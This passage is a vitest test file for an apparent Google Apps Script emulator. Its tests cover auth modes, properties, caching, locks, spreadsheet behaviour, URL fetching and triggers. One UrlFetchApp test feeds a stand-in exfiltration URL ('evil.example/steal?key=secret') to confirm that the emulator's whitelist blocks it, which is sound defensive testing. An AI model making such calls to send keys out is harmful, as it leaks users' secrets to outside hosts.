import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { type AppsScriptOptions, createAppsScript } from "../../harness/emulator/index.ts";
import type { HttpReply, HttpRequest, Route } from "../../harness/http-types.ts";

const OWNER = "owner@example.com";
const EDITOR = "editor@example.com";
const EXTERNAL_REQUEST = "https://www.googleapis.com/auth/script.external_request";

/** An emulator over one tiny inline script. */
function script(code: string, options: Omit<AppsScriptOptions, "sources"> = {}) {
  return createAppsScript({ sources: [{ name: "Code.js", code }], ...options });
}

/** A route answering every request with `reply(request)`. */
function route(prefix: string, reply: (request: HttpRequest) => HttpReply): Route {
  return { prefix, handle: reply };
}

const openqr = (reply: (request: HttpRequest) => HttpReply) => [route("https://openqr.uk/", reply)];

describe("executions", () => {
  it("starts every execution from fresh globals", () => {
    const app = script(`
      var counter = 0;
      function bump() { counter++; globalThis.extra = (globalThis.extra || 0) + 1; return [counter, extra]; }
    `);
    expect(app.run("bump")).toEqual([1, 1]);
    expect(app.run("bump")).toEqual([1, 1]);
  });

  it("offers only the JavaScript built-ins besides the services", () => {
    const app = script(`
      function probe() {
        return {
          URL: typeof URL, URLSearchParams: typeof URLSearchParams, fetch: typeof fetch,
          setTimeout: typeof setTimeout, setInterval: typeof setInterval, TextEncoder: typeof TextEncoder,
          TextDecoder: typeof TextDecoder, Buffer: typeof Buffer, process: typeof process, atob: typeof atob,
          btoa: typeof btoa, structuredClone: typeof structuredClone, crypto: typeof crypto,
          performance: typeof performance, require: typeof require, module: typeof module,
          window: typeof window, globalWindow: typeof globalThis.window, Blob: typeof Blob,
        };
      }
    `);
    const types = app.run("probe") as Record<string, string>;
    for (const [name, type] of Object.entries(types))
      expect({ name, type }).toEqual({ name, type: "undefined" });
  });

  it("loads every file in order into one global scope", () => {
    const app = createAppsScript({
      sources: [
        { name: "a.js", code: "var PREFIX = 'from a';" },
        { name: "b.js", code: "function read() { return PREFIX + ' and b'; }" },
      ],
    });
    expect(app.run("read")).toBe("from a and b");
  });

  it("loads a build directory: every *.js in name order, the manifest, the HTML files", () => {
    const dir = mkdtempSync(path.join(tmpdir(), "emulator-dist-"));
    try {
      writeFileSync(
        path.join(dir, "b.js"),
        "function zone() { return [FIRST, Session.getScriptTimeZone()]; }",
      );
      writeFileSync(path.join(dir, "a.js"), "var FIRST = 'a';");
      writeFileSync(path.join(dir, "appsscript.json"), JSON.stringify({ timeZone: "Asia/Tokyo" }));
      writeFileSync(path.join(dir, "Sidebar.html"), "<p>side</p>");
      writeFileSync(
        path.join(dir, "c.js"),
        "function page() { return HtmlService.createHtmlOutputFromFile('Sidebar').getContent(); }",
      );
      const app = createAppsScript({ distDir: dir });
      expect(app.run("zone")).toEqual(["a", "Asia/Tokyo"]);
      expect(app.run("page")).toBe("<p>side</p>");
      expect(() => createAppsScript({ distDir: path.join(dir, "missing") })).toThrow("npm run build");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("hands arguments over as values of the script's realm and copies results back", () => {
    const app = script(`
      function inspect(list, when, record) {
        return [list instanceof Array, when instanceof Date, record instanceof Object, when.getTime(), new Date(0)];
      }
    `);
    const result = app.run("inspect", [[1, 2], new Date(5), { a: 1 }]) as unknown[];
    expect(result.slice(0, 4)).toEqual([true, true, true, 5]);
    expect(result[4]).toBeInstanceOf(Date);
  });

  it("throws the platform's error for a missing function and the script's message for its errors", () => {
    const app = script(`function fails() { throw new Error("boom"); } function helper_() { return 1; }`);
    expect(() => app.run("nope")).toThrow("Script function not found: nope");
    expect(() => app.run("fails")).toThrow(/^boom$/);
  });

  it("raises service errors as Exceptions the script can catch", () => {
    const app = script(`
      function caught() {
        try { UrlFetchApp.fetch("https://nowhere.example/"); }
        catch (e) { return [e instanceof Error, e.name, e.message, String(e)]; }
      }
    `);
    expect(app.run("caught")).toEqual([
      true,
      "Exception",
      "DNS error: https://nowhere.example/",
      "Exception: DNS error: https://nowhere.example/",
    ]);
  });

  it("stops a script that spins without calling a service (real-time safety net)", () => {
    const app = script("function spin() { while (true) {} }", { realTimeLimitMs: 200 });
    expect(() => app.run("spin")).toThrow("Exceeded maximum execution time");
  });

  it("passes simple triggers an event with authMode and source", () => {
    const app = script(`
      function onOpen(e) { return [e.authMode, e.source.getName()]; }
      function peek(e) { try { e.source.getName(); } catch (err) { return err.message; } }
    `);
    expect(app.run("onOpen", [], { authMode: "LIMITED", event: {} })).toEqual([
      "LIMITED",
      "Untitled spreadsheet",
    ]);
    expect(app.run("peek", [], { authMode: "NONE", event: {} })).toMatch(
      /^You do not have permission to call getName\./,
    );
  });

  it("records console and Logger lines", () => {
    const app = script(
      `function talk() { console.log("a", 1); console.error("b"); Logger.log("c %s", "d"); }`,
    );
    app.run("talk");
    expect(app.logs).toEqual(["a 1", "b", "c d"]);
  });

  it("proves the global code calls no service", () => {
    const clean = script(
      `var VERSION = "1"; function onOpen(e) { SpreadsheetApp.getUi(); } function OPENQR_SCANS(id) { return 1; }`,
    );
    expect(clean.loadWithHostileServices()).toEqual(["onOpen", "OPENQR_SCANS"]);
    const dirty = script(`var KEY = PropertiesService.getScriptProperties(); function onOpen() {}`);
    expect(() => dirty.loadWithHostileServices()).toThrow(/PropertiesService\.getScriptProperties/);
    const sneaky = script(`try { var MODE = ScriptApp.AuthMode.FULL; } catch (e) {} function onOpen() {}`);
    expect(() => sneaky.loadWithHostileServices()).toThrow(/ScriptApp\.AuthMode/);
  });
});

describe("virtual time", () => {
  it("gives the script the virtual clock and lets sleep advance it without waiting", () => {
    const app = script(`
      function times() {
        var before = new Date();
        Utilities.sleep(90000);
        return [before.getTime(), Date.now(), typeof Date(), new Date(2020, 0, 1) instanceof Date];
      }
    `);
    const start = app.clock.now();
    const realStart = Date.now();
    expect(app.run("times")).toEqual([start, start + 90_000, "string", true]);
    expect(app.clock.now()).toBe(start + 90_000);
    expect(Date.now() - realStart).toBeLessThan(5_000);
    app.clock.advance(1_000);
    expect(app.clock.now()).toBe(start + 91_000);
    expect(app.calls["Utilities.sleep"]).toBe(1);
  });

  it("uses the manifest time zone for the script's local-time Dates", () => {
    const app = script(`function localMidnight() { return new Date(2026, 0, 1).getTime(); }`, {
      manifest: { timeZone: "America/Los_Angeles" },
    });
    expect(app.run("localMidnight")).toBe(Date.UTC(2026, 0, 1, 8));
  });

  it("kills an execution after 6 minutes, even if the script catches the error", () => {
    const app = script(`
      function slow() { for (var i = 0; i < 3; i++) { try { Utilities.sleep(150000); } catch (e) {} } return "done"; }
    `);
    expect(() => app.run("slow")).toThrow("Exceeded maximum execution time");
  });
});

describe("auth modes", () => {
  const code = `
    function menu() { SpreadsheetApp.getUi().createAddonMenu().addItem("Settings", "showSettings").addToUi(); return ScriptApp.AuthMode.NONE; }
    function readProps() { return PropertiesService.getUserProperties().getProperty("k"); }
    function readDoc() { return SpreadsheetApp.getActiveSpreadsheet().getName(); }
    function writeDoc() { SpreadsheetApp.getActiveSpreadsheet().getSheets()[0].getRange(1, 1).setValue(1); }
    function fetchIt() { return UrlFetchApp.fetch("https://openqr.uk/v1/ping").getResponseCode(); }
    function sidebar() { SpreadsheetApp.getUi().showSidebar(HtmlService.createHtmlOutput("<p>hi</p>").setTitle("OpenQR")); }
    function cache() { CacheService.getScriptCache().put("a", "1"); return CacheService.getScriptCache().get("a"); }
    function newTrigger() { return ScriptApp.newTrigger("refresh").timeBased().everyHours(1).create().getUniqueId(); }
  `;
  const app = () => script(code, { routes: openqr(() => ({ status: 200, body: "pong" })) });

  it("NONE: menus only", () => {
    const none = app();
    expect(none.run("menu", [], { authMode: "NONE", event: {} })).toBe("NONE");
    expect(none.ui.menus[0]).toMatchObject({
      title: "OpenQR",
      items: [{ caption: "Settings", fn: "showSettings" }],
    });
    expect(() => none.run("readProps", [], { authMode: "NONE" })).toThrow(
      /^Exception: You do not have permission to call PropertiesService\.getUserProperties$/,
    );
    expect(() => none.run("readDoc", [], { authMode: "NONE" })).toThrow(
      "Exception: You do not have permission to call SpreadsheetApp.getActiveSpreadsheet. Required permissions: (https://www.googleapis.com/auth/spreadsheets.currentonly || https://www.googleapis.com/auth/spreadsheets)",
    );
    expect(() => none.run("cache", [], { authMode: "NONE" })).toThrow("CacheService.getScriptCache");
    expect(() => none.run("fetchIt", [], { authMode: "NONE" })).toThrow(
      `Exception: You do not have permission to call UrlFetchApp.fetch. Required permissions: ${EXTERNAL_REQUEST}`,
    );
  });

  it("LIMITED: document and storage, no UrlFetch, no sidebar", () => {
    const limited = app();
    expect(limited.run("readProps", [], { authMode: "LIMITED" })).toBeNull();
    expect(limited.run("readDoc", [], { authMode: "LIMITED" })).toBe("Untitled spreadsheet");
    expect(limited.run("cache", [], { authMode: "LIMITED" })).toBe("1");
    expect(() => limited.run("fetchIt", [], { authMode: "LIMITED" })).toThrow(
      `Exception: You do not have permission to call UrlFetchApp.fetch. Required permissions: ${EXTERNAL_REQUEST}`,
    );
    expect(() => limited.run("sidebar", [], { authMode: "LIMITED" })).toThrow(
      "Exception: You do not have permission to call showSidebar. Required permissions: https://www.googleapis.com/auth/script.container.ui",
    );
    expect(() => limited.run("newTrigger", [], { authMode: "LIMITED" })).toThrow("ScriptApp.newTrigger");
  });

  it("CUSTOM_FUNCTION: reads and fetches, never writes, no UI, no triggers", () => {
    const custom = app();
    const asCell = (fn: string) => custom.runCustomFunction(fn, []);
    expect(asCell("readDoc")).toEqual({ ok: true, value: "Untitled spreadsheet" });
    expect(asCell("fetchIt")).toEqual({ ok: true, value: 200 });
    expect(asCell("cache")).toEqual({ ok: true, value: "1" });
    expect(asCell("writeDoc")).toEqual({
      ok: false,
      error: "Exception: You do not have permission to call setValue",
    });
    expect(asCell("menu")).toEqual({
      ok: false,
      error: "Exception: You do not have permission to call SpreadsheetApp.getUi",
    });
    expect(asCell("newTrigger")).toEqual({
      ok: false,
      error: "Exception: You do not have permission to call ScriptApp.newTrigger",
    });
  });

  it("FULL: everything, but no UI inside a trigger", () => {
    const full = app();
    full.run("sidebar");
    expect(full.ui.sidebars).toEqual([{ title: "OpenQR", html: "<p>hi</p>", width: undefined, user: OWNER }]);
    expect(full.run("fetchIt")).toBe(200);
    expect(full.run("writeDoc")).toBeUndefined();
    expect(() => full.run("sidebar", [], { triggerUid: "1" })).toThrow(
      "Exception: Cannot call SpreadsheetApp.getUi() from this context.",
    );
  });

  it("enforces the manifest's oauthScopes", () => {
    const narrow = script(code, {
      manifest: { oauthScopes: ["https://www.googleapis.com/auth/spreadsheets.currentonly"] },
      routes: openqr(() => ({ status: 200 })),
    });
    expect(narrow.run("readDoc")).toBe("Untitled spreadsheet");
    expect(() => narrow.run("fetchIt")).toThrow(
      `Exception: You do not have permission to call UrlFetchApp.fetch. Required permissions: ${EXTERNAL_REQUEST}`,
    );
  });

  it("models a stale grant: calls needing a scope fail, storage still works", () => {
    const stale = script(
      `${code}
      function status() { return ScriptApp.getAuthorizationInfo(ScriptApp.AuthMode.FULL).getAuthorizationStatus(); }`,
      { routes: openqr(() => ({ status: 200 })) },
    );
    expect(stale.run("status")).toBe("NOT_REQUIRED");
    stale.setAuthorizationRequired(true, OWNER);
    expect(stale.run("status")).toBe("REQUIRED");
    expect(() => stale.run("fetchIt")).toThrow(
      "Exception: Authorization is required to perform that action.",
    );
    expect(stale.run("cache")).toBe("1");
    expect(stale.run("status", [], { user: EDITOR })).toBe("NOT_REQUIRED");
  });
});

describe("PropertiesService", () => {
  const code = `
    function saveKey(key) { PropertiesService.getUserProperties().setProperty("apiKey", key); }
    function OPENQR_KEY() { return PropertiesService.getUserProperties().getProperty("apiKey"); }
    function OPENQR_SAVE() { PropertiesService.getUserProperties().setProperty("apiKey", "x"); }
    function OPENQR_DOC() { return PropertiesService.getDocumentProperties().getProperty("shared"); }
    function OPENQR_DOC_SAVE() { PropertiesService.getDocumentProperties().setProperty("shared", "x"); }
    function put(key, value) { PropertiesService.getScriptProperties().setProperty(key, value); }
    function all() { var p = PropertiesService.getScriptProperties().getProperties(); return [p, p instanceof Object]; }
  `;

  it("gives custom functions the OWNER's user properties, read-only", () => {
    const app = script(code);
    app.run("saveKey", ["owner-key"]);
    app.run("saveKey", ["editor-key"], { user: EDITOR });
    expect(app.properties.user(OWNER).get("apiKey")).toBe("owner-key");
    expect(app.properties.user(EDITOR).get("apiKey")).toBe("editor-key");
    expect(app.runCustomFunction("OPENQR_KEY", [], { user: EDITOR })).toEqual({
      ok: true,
      value: "owner-key",
    });
    expect(app.runCustomFunction("OPENQR_SAVE", [], { user: EDITOR })).toEqual({
      ok: false,
      error: "Exception: You do not have permission to call setProperty",
    });
    expect(app.properties.user(OWNER).get("apiKey")).toBe("owner-key");
  });

  it("can refuse user properties to custom functions only (add-ons' behaviour is undocumented)", () => {
    const app = script(code);
    app.run("saveKey", ["owner-key"]);
    app.settings.userPropertiesInCustomFunctions = "refused";
    expect(app.runCustomFunction("OPENQR_KEY", [], { user: EDITOR })).toEqual({
      ok: false,
      error: "Exception: You do not have permission to call PropertiesService.getUserProperties",
    });
    app.run("saveKey", ["owner-key-2"]);
    expect(app.properties.user(OWNER).get("apiKey")).toBe("owner-key-2");
  });

  it("lets custom functions read document properties but not write them", () => {
    const app = script(code);
    app.properties.document.set("shared", "doc-key");
    expect(app.runCustomFunction("OPENQR_DOC", [])).toEqual({ ok: true, value: "doc-key" });
    expect(app.runCustomFunction("OPENQR_DOC_SAVE", [])).toMatchObject({ ok: false });
  });

  it("stores strings only and enforces the 9 KB value and 500 KB store limits", () => {
    const app = script(code);
    app.run("put", ["n", 42]);
    expect(app.properties.script.get("n")).toBe("42");
    expect(app.run("all")).toEqual([{ n: "42" }, true]);
    expect(() => app.run("put", ["big", "x".repeat(9 * 1024 + 1)])).toThrow(
      "Exception: Argument too large: value",
    );
    for (let i = 0; i < 56; i++) app.properties.script.set(`k${i}`, "x".repeat(9_000));
    expect(() => app.run("put", ["last", "x".repeat(9_000)])).toThrow(
      "Exception: You have exceeded the property storage quota. Please remove some properties and try again.",
    );
  });
});

describe("CacheService", () => {
  const code = `
    function put(key, value, ttl) { CacheService.getScriptCache().put(key, value, ttl); }
    function get(key) { return CacheService.getScriptCache().get(key); }
    function many() {
      var cache = CacheService.getUserCache();
      cache.putAll({ a: "1", b: "2" }, 60);
      return cache.getAll(["a", "b", "c"]);
    }
  `;

  it("expires entries on the virtual clock (default 600 s)", () => {
    const app = script(code);
    app.run("put", ["short", "v", 30]);
    app.run("put", ["default", "v"]);
    expect(app.run("get", ["short"])).toBe("v");
    app.clock.advance(30_000);
    expect(app.run("get", ["short"])).toBeNull();
    expect(app.run("get", ["default"])).toBe("v");
    app.clock.advance(570_000);
    expect(app.run("get", ["default"])).toBeNull();
  });

  it("enforces key, value and TTL limits", () => {
    const app = script(code);
    expect(() => app.run("put", ["k".repeat(251), "v"])).toThrow("Exception: Argument too large: key");
    expect(() => app.run("put", ["k", "v".repeat(100 * 1024 + 1)])).toThrow(
      "Exception: Argument too large: value",
    );
    expect(() => app.run("put", ["k", "v", 21_601])).toThrow("Invalid argument: expirationInSeconds");
    expect(() => app.run("put", ["k".repeat(250), "v", 21_600])).not.toThrow();
  });

  it("supports getAll/putAll, per-user caches, and eviction switches", () => {
    const app = script(code);
    expect(app.run("many")).toEqual({ a: "1", b: "2" });
    expect(app.caches.user(OWNER).keys()).toEqual(["a", "b"]);
    expect(app.caches.user(EDITOR).keys()).toEqual([]);
    app.caches.evictAll();
    expect(app.caches.user(OWNER).keys()).toEqual([]);
    app.caches.alwaysEvict = true;
    app.run("put", ["k", "v"]);
    expect(app.run("get", ["k"])).toBeNull();
    expect(app.calls["Cache.putAll"]).toBe(1);
    expect(app.calls["Cache.getAll"]).toBe(1);
  });
});

describe("LockService", () => {
  const code = `
    function tryIt() { var lock = LockService.getDocumentLock(); var ok = lock.tryLock(5000); return [ok, lock.hasLock()]; }
    function waitIt() { LockService.getDocumentLock().waitLock(10000); }
  `;

  it("acquires, releases at exit, and times out when another process holds the lock", () => {
    const app = script(code);
    expect(app.run("tryIt")).toEqual([true, true]);
    expect(app.locks.events.map((event) => event.action)).toEqual(["acquired", "released-at-exit"]);
    app.locks.holdByAnotherProcess("document");
    const before = app.clock.now();
    expect(app.run("tryIt")).toEqual([false, false]);
    expect(app.clock.now()).toBe(before + 5_000);
    expect(() => app.run("waitIt")).toThrow(
      "Exception: Lock timeout: another process was holding the lock for too long.",
    );
    expect(app.calls["LockService.getDocumentLock"]).toBe(3);
  });
});

describe("SpreadsheetApp", () => {
  it("starts sheets at 1000 x 26 and refuses ranges outside them until the sheet grows", () => {
    const app = script(`
      function size() { var s = SpreadsheetApp.getActiveSpreadsheet().getSheets()[0]; return [s.getMaxRows(), s.getMaxColumns(), s.getName()]; }
      function outside() { SpreadsheetApp.getActiveSheet().getRange(1000, 1, 2, 1); }
      function grow() { var s = SpreadsheetApp.getActiveSheet(); s.insertRowsAfter(s.getMaxRows(), 5); s.insertColumnsAfter(26, 1); return s.getRange("AA1005").getA1Notation(); }
    `);
    expect(app.run("size")).toEqual([1000, 26, "Sheet1"]);
    expect(() => app.run("outside")).toThrow(
      "Exception: The coordinates of the range are outside the dimensions of the sheet.",
    );
    expect(app.run("grow")).toBe("AA1005");
  });

  it("requires setValues data of the range's exact size", () => {
    const app = script(`
      function rows() { SpreadsheetApp.getActiveSheet().getRange(1, 1, 2, 2).setValues([[1, 2]]); }
      function columns() { SpreadsheetApp.getActiveSheet().getRange(1, 1, 2, 2).setValues([[1, 2], [3]]); }
      function flat() { SpreadsheetApp.getActiveSheet().getRange(1, 1, 1, 2).setValues([1, 2]); }
    `);
    expect(() => app.run("rows")).toThrow(
      "Exception: The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.",
    );
    expect(() => app.run("columns")).toThrow(
      "Exception: The number of columns in the data does not match the number of columns in the range. The data has 1 but the range has 2.",
    );
    expect(() => app.run("flat")).toThrow(
      "don't match the method signature for SpreadsheetApp.Range.setValues",
    );
  });

  it("parses written strings like typed input", () => {
    const app = script(`
      function write(values) { SpreadsheetApp.getActiveSheet().getRange(1, 1, 1, values.length).setValues([values]); }
      function read() { var r = SpreadsheetApp.getActiveSheet().getRange(1, 1, 1, 11); return [r.getValues()[0], r.getDisplayValues()[0], r.getFormulas()[0]]; }
    `);
    app.run("write", [
      ["=SUM(B1:C1)", "007", "1e5", "TRUE", "2026-01-01", "5%", "$5", "'007", "'=1+1", "plain", "false"],
    ]);
    const [values, display, formulas] = app.run("read") as [unknown[], string[], string[]];
    expect(values.slice(1, 4)).toEqual([7, 100_000, true]);
    expect(values[4]).toEqual(new Date("2026-01-01T00:00:00Z")); // midnight in Europe/London (GMT in January)
    expect(values.slice(5)).toEqual([0.05, 5, "007", "=1+1", "plain", false]);
    expect(formulas[0]).toBe("=SUM(B1:C1)");
    expect(formulas.slice(1)).toEqual(["", "", "", "", "", "", "", "", "", ""]);
    expect(display.slice(4, 8)).toEqual(["2026-01-01", "5%", "$5.00", "007"]);
    expect(app.spreadsheet.sheetFormulas("Sheet1")[0]?.[0]).toBe("=SUM(B1:C1)");
  });

  it("reads typed dates at midnight in the spreadsheet's time zone", () => {
    const app = script(
      `function write() { SpreadsheetApp.getActiveSheet().getRange("A1").setValue("2026-07-01"); }`,
      { spreadsheet: { timeZone: "America/Los_Angeles" } },
    );
    app.run("write");
    expect(app.spreadsheet.sheetValues("Sheet1")).toEqual([[new Date("2026-07-01T07:00:00Z")]]);
  });

  it("tracks last row/column, data range, appendRow and number formats", () => {
    const app = script(`
      function build() {
        var ss = SpreadsheetApp.getActiveSpreadsheet();
        var sheet = ss.insertSheet("Scans");
        sheet.appendRow(["date", "scans"]);
        sheet.appendRow([new Date(Date.UTC(2026, 0, 2)), 3]);
        sheet.getRange(2, 2).setNumberFormat("0.00");
        return [sheet.getLastRow(), sheet.getLastColumn(), sheet.getDataRange().getA1Notation(),
          sheet.getRange("B2").getDisplayValue(), sheet.getRange("B2").getNumberFormat(), sheet.getRange("A1").getNumberFormat(),
          ss.getSheetByName("nope"), ss.getSheets().length];
      }
      function again() { SpreadsheetApp.getActiveSpreadsheet().insertSheet("Scans"); }
    `);
    expect(app.run("build")).toEqual([2, 2, "A1:B2", "3.00", "0.00", "General", null, 2]);
    expect(app.spreadsheet.sheetValues("Scans")).toEqual([
      ["date", "scans"],
      [new Date(Date.UTC(2026, 0, 2)), 3],
    ]);
    expect(() => app.run("again")).toThrow(
      'A sheet with the name "Scans" already exists. Please enter another name.',
    );
    expect(app.calls["Sheet.appendRow"]).toBe(2);
  });

  it("records toasts and exposes the spreadsheet's identity", () => {
    const app = script(`
      function info() { var ss = SpreadsheetApp.getActive(); ss.toast("Saved", "OpenQR"); return [ss.getId(), ss.getUrl(), ss.getSpreadsheetTimeZone(), ss.getOwner().getEmail()]; }
      function moveZone() { SpreadsheetApp.getActiveSpreadsheet().setSpreadsheetTimeZone("Asia/Tokyo"); }
    `);
    const [id, url, zone, owner] = app.run("info") as string[];
    expect(url).toBe(`https://docs.google.com/spreadsheets/d/${id}/edit`);
    expect([zone, owner]).toEqual(["Europe/London", OWNER]);
    expect(app.ui.toasts).toEqual([{ message: "Saved", title: "OpenQR", timeoutSeconds: 5 }]);
    app.run("moveZone");
    expect(app.spreadsheet.timeZone).toBe("Asia/Tokyo");
  });
});

describe("dates shown in cells", () => {
  // Builds midnight of a YYYY-MM-DD day in the spreadsheet's zone, as the product must. Two passes:
  // 2026-03-08 is a DST day in Los Angeles, so the offset at noon differs from the offset at midnight.
  const code = `
    function OPENQR_DAY(day) {
      var tz = SpreadsheetApp.getActiveSpreadsheet().getSpreadsheetTimeZone();
      function at(offset) { return new Date(day + "T00:00:00" + (offset === "Z" ? "+00:00" : offset)); }
      var first = at(Utilities.formatDate(new Date(day + "T00:00:00Z"), tz, "XXX"));
      return at(Utilities.formatDate(first, tz, "XXX"));
    }
  `;

  it("shows a midnight Date as the day in the spreadsheet's zone", () => {
    const app = script(code, { spreadsheet: { timeZone: "America/Los_Angeles" } });
    const result = app.runCustomFunction("OPENQR_DAY", ["2026-03-08"]);
    expect(result).toEqual({ ok: true, value: new Date("2026-03-08T08:00:00Z") });
    expect(app.display(result.ok && result.value)).toBe("2026-03-08");
    app.spreadsheet.setSpreadsheetTimeZone("UTC");
    expect(app.display(result.ok && result.value)).toBe("2026-03-08 08:00:00");
  });

  it("keeps a date cell's day across a zone change, passing it as midnight in the new zone", () => {
    const app = script(
      `function DAY_OF(date) { return Utilities.formatDate(date, SpreadsheetApp.getActiveSpreadsheet().getSpreadsheetTimeZone(), "yyyy-MM-dd HH:mm"); }
       function typeDate() { SpreadsheetApp.getActiveSheet().getRange("A1").setValue("2026-11-01"); }
       function moveZone() { SpreadsheetApp.getActiveSpreadsheet().setSpreadsheetTimeZone("Asia/Tokyo"); }`,
      { spreadsheet: { timeZone: "America/Los_Angeles" } },
    );
    app.run("typeDate");
    const sheet = app.spreadsheet.sheets[0]!;
    expect((sheet.cell(1, 1).value as Date).toISOString()).toBe("2026-11-01T07:00:00.000Z");
    app.run("moveZone");
    // Sheets keeps the local date (a serial number): the cell still shows 2026-11-01.
    expect((sheet.cell(1, 1).value as Date).toISOString()).toBe("2026-10-31T15:00:00.000Z");
    expect(app.display(sheet.cell(1, 1).value)).toBe("2026-11-01");
    expect(app.runCustomFunction("DAY_OF", [sheet.cell(1, 1).value])).toEqual({
      ok: true,
      value: "2026-11-01 00:00",
    });
  });

  it("shows numbers plainly and booleans in capitals", () => {
    const app = script("");
    expect([
      app.display(0.1 + 0.2),
      app.display(42),
      app.display(true),
      app.display(""),
      app.display("x"),
    ]).toEqual(["0.3", "42", "TRUE", "", "x"]);
  });
});

describe("UrlFetchApp", () => {
  const code = `
    function get(url, params) { var r = UrlFetchApp.fetch(url, params || {}); return [r.getResponseCode(), r.getContentText(), r.getHeaders()]; }
    function all(urls) {
      return UrlFetchApp.fetchAll(urls.map(function (u) { return { url: u, muteHttpExceptions: true }; }))
        .map(function (r) { return r.getContentText(); });
    }
  `;

  it("refuses URLs outside the manifest's urlFetchWhitelist", () => {
    const app = script(code, {
      manifest: { urlFetchWhitelist: ["https://openqr.uk/"] },
      routes: [route("https://", () => ({ status: 200, body: "ok" }))],
    });
    expect(app.run("get", ["https://openqr.uk/v1/x"])).toEqual([200, "ok", {}]);
    expect(() => app.run("get", ["https://evil.example/steal?key=secret"])).toThrow(
      "Exception: Request to https://evil.example/steal? failed because the URL has not been whitelisted in the script manifest.",
    );
    expect(app.http).toHaveLength(1);
  });

  it("throws on non-2xx unless muteHttpExceptions, and records the request", () => {
    const app = script(code, {
      routes: openqr(() => ({
        status: 500,
        headers: { "Content-Type": "application/json" },
        body: '{"error":"down"}',
      })),
    });
    expect(() => app.run("get", ["https://openqr.uk/v1/qr/1"])).toThrow(
      'Exception: Request failed for https://openqr.uk returned code 500. Truncated server response: {"error":"down"} (use muteHttpExceptions option to examine full response)',
    );
    expect(
      app.run("get", [
        "https://openqr.uk/v1/qr/1",
        {
          muteHttpExceptions: true,
          method: "post",
          payload: '{"a":1}',
          contentType: "application/json",
          headers: { Authorization: "Bearer k" },
        },
      ]),
    ).toEqual([500, '{"error":"down"}', { "Content-Type": "application/json" }]);
    expect(app.http[1]).toEqual({
      method: "POST",
      url: "https://openqr.uk/v1/qr/1",
      headers: { authorization: "Bearer k", "content-type": "application/json" },
      body: '{"a":1}',
    });
    expect(app.httpOptions[1]).toMatchObject({
      muteHttpExceptions: true,
      followRedirects: true,
      user: OWNER,
    });
  });

  it("throws on a dropped connection even with muteHttpExceptions", () => {
    const app = script(code, { routes: openqr(() => ({ status: 200, drop: true })) });
    expect(() => app.run("get", ["https://openqr.uk/v1/x", { muteHttpExceptions: true }])).toThrow(
      "Exception: Address unavailable: https://openqr.uk/v1/x",
    );
  });

  it("advances the clock by the reply's delay and times out after 60 s", () => {
    const app = script(code, {
      routes: openqr((request) => ({ status: 200, delayMs: request.url.endsWith("slow") ? 61_000 : 2_000 })),
    });
    const start = app.clock.now();
    app.run("get", ["https://openqr.uk/fast"]);
    expect(app.clock.now()).toBe(start + 2_000);
    expect(() => app.run("get", ["https://openqr.uk/slow"])).toThrow(
      "Exception: Timeout: https://openqr.uk/slow",
    );
    expect(app.clock.now()).toBe(start + 62_000);
  });

  it("runs fetchAll in parallel: results in request order, clock advanced by the slowest", () => {
    const app = script(code, {
      routes: openqr((request) => {
        const n = Number(request.url.split("/").pop());
        return { status: n === 2 ? 404 : 200, body: `r${n}`, delayMs: n * 1_000 };
      }),
    });
    const start = app.clock.now();
    expect(app.run("all", [["https://openqr.uk/3", "https://openqr.uk/1", "https://openqr.uk/2"]])).toEqual([
      "r3",
      "r1",
      "r2",
    ]);
    expect(app.clock.now()).toBe(start + 3_000);
    expect(app.calls["UrlFetchApp.fetchAll"]).toBe(1);
    expect(app.calls["UrlFetchApp.requests"]).toBe(3);
    expect(app.httpOptions.every((options) => options.viaFetchAll)).toBe(true);
  });

  it("follows redirects only when followRedirects is true, fails unknown hosts like DNS", () => {
    const app = script(code, {
      routes: openqr((request) =>
        request.url.endsWith("/old")
          ? { status: 302, headers: { Location: "/new" } }
          : { status: 200, body: "new" },
      ),
    });
    expect(app.run("get", ["https://openqr.uk/old"])).toEqual([200, "new", {}]);
    expect(app.calls["UrlFetchApp.requests"]).toBe(2);
    expect(app.run("get", ["https://openqr.uk/old", { followRedirects: false }])).toEqual([
      302,
      "",
      { Location: "/new" },
    ]);
    expect(() => app.run("get", ["https://other.example/"])).toThrow(
      "Exception: DNS error: https://other.example/",
    );
  });

  it("enforces the daily quota", () => {
    const app = script(code, { routes: openqr(() => ({ status: 200, body: "x" })) });
    const urls = Array.from({ length: 20_001 }, () => "https://openqr.uk/q");
    expect(() => app.run("all", [urls])).toThrow(
      "Exception: Service invoked too many times for one day: urlfetch.",
    );
    expect(app.http).toHaveLength(0);
  });
});

describe("triggers", () => {
  const code = `
    function hourly(n) { return ScriptApp.newTrigger("refresh").timeBased().everyHours(n || 1).create().getUniqueId(); }
    function daily() { return ScriptApp.newTrigger("refresh").timeBased().everyDays(1).atHour(6).nearMinute(15).inTimezone("Europe/London").create().getUniqueId(); }
    function minutes() { ScriptApp.newTrigger("refresh").timeBased().everyMinutes(5).create(); }
    function onOpenTrigger() { return ScriptApp.newTrigger("opened").forSpreadsheet(SpreadsheetApp.getActive()).onOpen().create().getEventType(); }
    function mine() { return ScriptApp.getUserTriggers(SpreadsheetApp.getActive()).map(function (t) { return [t.getHandlerFunction(), t.getEventType(), t.getTriggerSource()]; }); }
    function removeAll() { ScriptApp.getUserTriggers(SpreadsheetApp.getActive()).forEach(function (t) { ScriptApp.deleteTrigger(t); }); }
    function refresh(e) { SpreadsheetApp.getUi(); }
    function refreshQuietly(e) { return [e.triggerUid, e.authMode, Session.getEffectiveUser().getEmail(), SpreadsheetApp.getActiveSpreadsheet().getName()]; }
  `;

  it("accepts only 1, 2, 4, 6, 8 or 12 hours and refuses minute schedules", () => {
    const app = script(code);
    expect(() => app.run("hourly", [3])).toThrow("Invalid argument: hours");
    expect(() => app.run("minutes")).toThrow(
      "Add-ons may not create time-based triggers that run more often than once per hour.",
    );
    expect(app.run("hourly", [12])).toMatch(/^\d+$/);
  });

  it("allows one clock trigger per user per document, stored per user", () => {
    const app = script(code);
    app.run("hourly");
    expect(() => app.run("daily")).toThrow(
      "Exception: This add-on has created too many time-based triggers in this document for this Google user account.",
    );
    app.run("daily", [], { user: EDITOR });
    expect(app.run("onOpenTrigger")).toBe("ON_OPEN");
    expect(app.run("mine")).toEqual([
      ["refresh", "CLOCK", "CLOCK"],
      ["opened", "ON_OPEN", "SPREADSHEETS"],
